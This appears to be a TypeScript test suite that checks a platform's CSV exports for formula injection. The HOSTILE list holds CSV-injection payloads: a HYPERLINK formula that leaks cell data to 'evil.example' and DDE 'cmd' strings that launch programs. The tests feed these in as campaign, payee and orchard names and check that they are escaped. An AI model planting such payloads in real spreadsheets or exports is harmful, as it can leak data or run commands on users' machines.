import type { RouteDef } from '../../src/platform/http';
import { aConsumer, aFactory } from '../support/builders';
import { anOpenCampaign, paidPledge, payBalance } from '../support/campaigns';
import { runDue } from '../support/clock';
import { subscribe } from '../support/subscriptions';
import { buildWorld, isShopOwnersView, type World } from './support/fuzz-world';

/**
 * CSV injection: a factory opens our exports in Excel, and names in them come from outside (campaign
 * titles, product names). A cell that starts with =, +, -, @, a tab or a carriage return would run as a
 * formula; every such cell must be neutralised. Numbers stay numbers.
 */
let w: World;
beforeAll(async () => {
  w = await buildWorld();
});
afterAll(() => w?.close());

const nameOf = (r: RouteDef) => `${r.method} ${r.path}`;
/** The exports known to answer CSV; the first test fails when another route starts to. */
const CSV_EXPORTS = [
  'get /v1/factory/forecast-batches/:id',
  'get /v1/picking-lists',
  'get /v1/statements',
  'get /v1/statements/:id/entries',
  'get /v1/payout-batches/:id/bank-file',
  'get /v1/me/shop/statements',
  'get /v1/me/shop/statements/:id/lines',
  'get /v1/shop-statements',
  'get /v1/shop-statements/:id/lines',
  'get /v1/audit-log',
];

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  // A formula on a name's second line: unquoted, Excel would start a row with it.
  "冬季羽绒服\n=cmd|' /C calc'!A0",
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** A name as its cell must read: with the apostrophe when it starts like a formula. */
const asWritten = (name: string) => (FORMULA_START.test(name) ? `'${name}` : name);

/** The query a GET route needs to answer at all. */
const QUERIES: Record<string, string> = {
  '/v1/factory/picking-lists': '?shipDate=2030-01-01',
  '/v1/picking-lists': '?shipDate=2030-01-01',
  '/v1/shortfalls': '?shipDate=2030-01-01',
  '/v1/ship-dates': '?from=2030-01-01',
  '/v1/sandbox/sms': '?phone=13800138000',
  '/v1/wechat/js-sdk-config': '?url=https%3A%2F%2Fshop.example.com%2Fc%2Fdemo',
  '/v1/marks': '?kind=campaign&board=red',
  '/v1/console/search': '?q=13800138000',
};

describe('CSV exports', () => {
  test('the routes that answer CSV are the ones checked here', async () => {
    const ids: Record<string, string> = {
      factories: w.a.id,
      campaigns: w.campaigns.openA,
      pledges: w.alice.activePledgeId,
      payments: w.alice.unpaidPaymentId,
      subscriptions: w.alice.subscriptionId,
      'forecast-batches': w.a.batchId,
      statements: w.settlement.statementA,
      payouts: w.settlement.payoutA,
      'payout-batches': w.settlement.batchId,
      shops: w.shops.code,
      'subscription-plans': 'weekly-small',
      c: w.campaigns.openA,
      'shop-statements': w.shops.statementId,
      concepts: w.concepts.trialA,
      marks: w.markSubjectA,
      subjects: w.markSubjectA,
      mine: w.markSubjectA,
      // The money desk's record view: /v1/console/money/:kind/:id.
      money: 'pledges',
      ':kind': w.alice.activePledgeId,
    };
    const answeringCsv: string[] = [];
    for (const r of w.t.app.routes.filter((route) => route.method === 'get')) {
      const segments = r.path.split('/');
      // A shop owner's own statement, for their view of its lines.
      const idOf = (segment: string) => (isShopOwnersView(r.path) && segment === 'statements' ? w.shops.statementId : ids[segment]);
      const path = segments.map((s, i) => (s.startsWith(':') ? idOf(segments[i - 1]) : s)).join('/') + (QUERIES[r.path] ?? '');
      const auth =
        r.access === 'public'
          ? undefined
          : r.access.includes('factory')
            ? w.a.user.auth
            : r.access.includes('operator')
              ? w.operator.auth
              : isShopOwnersView(r.path)
                ? w.shops.owner.auth
                : w.alice.auth;
      const req = w.t.http.get(path).set('Accept', 'text/csv');
      const res = await (auth ? req.set(auth) : req);
      expect({ route: nameOf(r), status: res.status }).toEqual({ route: nameOf(r), status: 200 });
      if (String(res.headers['content-type']).startsWith('text/csv')) answeringCsv.push(nameOf(r));
    }
    expect(answeringCsv).toEqual(CSV_EXPORTS);
  });

  test('forecast batches: names that start like a formula are neutralised in every cell, numbers (negative changes too) are left alone', async () => {
    const { t, operator, clock } = w;
    const factory = await aFactory(t, operator);
    const consumer = await aConsumer(t);
    const pledges = [];
    for (const [i, title] of HOSTILE.entries()) {
      const c = await anOpenCampaign(t, operator, factory.id, clock, { title, productName: HOSTILE[(i + 1) % HOSTILE.length] });
      pledges.push(await paidPledge(t, consumer, c.id, { colour: 'black', size: 'M' }, 2));
    }
    await t.http.post(`/v1/factories/${factory.id}/forecast-batches`).set(operator.auth).expect(200);
    // A cancelled pledge: the next version carries negative changes ("-2"), which are numbers and stay as they are.
    await t.http.post(`/v1/pledges/${pledges[0].id}/cancel`).set(consumer.auth).set('Idempotency-Key', `cancel-${pledges[0].id}`).expect(200);
    const published = await t.http.post(`/v1/factories/${factory.id}/forecast-batches`).set(operator.auth).expect(200);

    const byQuery = await t.http.get(`/v1/factory/forecast-batches/${published.body.batch.id}?format=csv`).set(factory.user.auth).expect(200);
    const byAccept = await t.http.get(`/v1/factory/forecast-batches/${published.body.batch.id}`).set(factory.user.auth).set('Accept', 'text/csv').expect(200);
    for (const res of [byQuery, byAccept]) {
      const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).flat();
      const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      expect(formulas).toEqual([]);
      for (const title of HOSTILE) expect(cells).toContain(asWritten(title));
      expect(cells).toContain('-2');
    }
  });

  test('settlement statements and the bank file: campaign titles and payee names that start like a formula are neutralised, amounts (negative too) left alone', async () => {
    const { t, operator, clock } = w;
    const factory = await aFactory(t, operator);
    for (const title of [...HOSTILE.slice(0, 2), HOSTILE[5]]) {
      const consumer = await aConsumer(t);
      const c = await anOpenCampaign(t, operator, factory.id, clock, { title, tiers: [{ minUnits: 1, unitPrice: '899.00' }] });
      const bought = await paidPledge(t, consumer, c.id, { colour: 'black', size: 'M' }, 1);
      await t.http.post(`/v1/campaigns/${c.id}/close`).set(operator.auth).expect(200);
      await runDue(t, clock);
      await payBalance(t, consumer, bought.id);
      await runDue(t, clock);
    }
    await t.http
      .put(`/v1/factories/${factory.id}/payee`)
      .set(operator.auth)
      .send({ accountName: HOSTILE[2], accountNumber: '6222020200112233445', bankName: HOSTILE[3], bankCode: '102331000013' })
      .expect(200);
    const statements = await t.http.get('/v1/statements?format=csv').set(factory.user.auth).expect(200);
    const batch = await t.http.post('/v1/payout-batches').set(operator.auth).set('Idempotency-Key', `csv-${factory.id}`).expect(201);
    await t.http
      .post(`/v1/payout-batches/${batch.body.id}/approve`)
      .set(operator.auth)
      .set('Idempotency-Key', `csv-approve-${factory.id}`)
      .send({ method: 'bank_file' })
      .expect(200);
    await runDue(t, clock);
    const file = await t.http.get(`/v1/payout-batches/${batch.body.id}/bank-file`).set(operator.auth).expect(200);
    for (const [res, expected] of [
      [statements, [...HOSTILE.slice(0, 2), HOSTILE[5]]],
      [file, HOSTILE.slice(2, 4)],
    ] as const) {
      const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).flat();
      expect(cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
      for (const name of expected) expect(cells).toContain(asWritten(name));
    }
  });

  test("picking lists: an orchard's name that starts like a formula is neutralised, units left alone", async () => {
    const { t, operator, clock } = w;
    const orchard = await t.http
      .post('/v1/factories')
      .set(operator.auth)
      .send({ name: HOSTILE[4], kind: 'orchard', contactEmail: 'formula-orchard@example.com' })
      .expect(201);
    for (const fruit of (await t.http.get('/v1/fruits').expect(200)).body.items) {
      await t.http.patch(`/v1/fruits/${fruit.id}`).set(operator.auth).send({ orchardId: orchard.body.id }).expect(200);
    }
    const consumer = await aConsumer(t);
    const subscriptionId = (await subscribe(t, consumer, clock).expect(201)).body.id;
    const [box] = (
      (await t.http.get('/v1/boxes?limit=100&status=planned').set(operator.auth).expect(200)).body.items as {
        subscriptionId: string;
        shipDate: string;
        cutoffAt: string;
      }[]
    )
      .filter((b) => b.subscriptionId === subscriptionId)
      .sort((a, b) => a.shipDate.localeCompare(b.shipDate));
    // Past its cutoff: locked, and on the picking list.
    clock.offsetMs = Math.max(clock.offsetMs, Date.parse(box.cutoffAt) - Date.now() + 60_000);
    await t.db.transaction((tx) => t.app.jobs.enqueue(tx, 'subscriptions.lock-due-boxes', {}));
    await runDue(t, clock);
    const res = await t.http.get(`/v1/picking-lists?shipDate=${box.shipDate}&format=csv`).set(operator.auth).expect(200);
    const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${HOSTILE[4]}`);
  });
});

/** RFC 4180 as Excel reads it: quoted cells may hold commas, quotes (doubled) and line breaks; outside quotes any line break ends the row. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && (ch === '\r' || ch === '\n')) {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      if (ch === '\r' && text[i + 1] === '\n') i++;
    } else {
      cell += ch;
    }
  }
  if (row.length > 0 || cell !== '') rows.push([...row, cell]);
  return rows;
}
